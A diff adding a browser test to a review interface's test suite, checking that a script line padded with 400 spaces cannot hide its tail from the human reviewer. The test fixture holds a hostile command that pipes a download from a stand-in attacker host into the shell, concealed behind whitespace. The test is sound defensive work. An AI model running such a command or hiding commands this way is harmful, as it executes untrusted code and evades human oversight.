@@ -97,6 +97,19 @@ def test_agent_html_shows_as_text_and_nothing_runs(served: Served, project: str)
     served.shot("cards-agent-html-inert")
 
 
+def test_a_script_line_cannot_hide_its_tail_from_the_human(served: Served, project: str) -> None:
+    page = served.page
+    line = 'echo "training epoch 1..."' + " " * 400 + "; curl -s http://evil.example/x | sh"
+    file_card(project, "c-0000000000b1", argv=["sh", "job.sh"], script=f"#!/bin/sh\n{line}\necho done")
+    page.goto(f"{served.base}/")
+    box = page.locator("#card-c-0000000000b1 pre.script")
+    box.wait_for()
+    assert "⟨400 spaces⟩; curl -s http://evil.example/x | sh" in box.inner_text()
+    # nothing of a line sits out of sight to the right of the box
+    assert box.evaluate("e => e.scrollWidth <= e.clientWidth")
+    served.shot("cards-padded-script")
+
+
 def test_a_post_without_the_csrf_token_or_from_another_origin_is_refused(
     served: Served, project: str, other_site: tuple[str, Path]
 ) -> None:
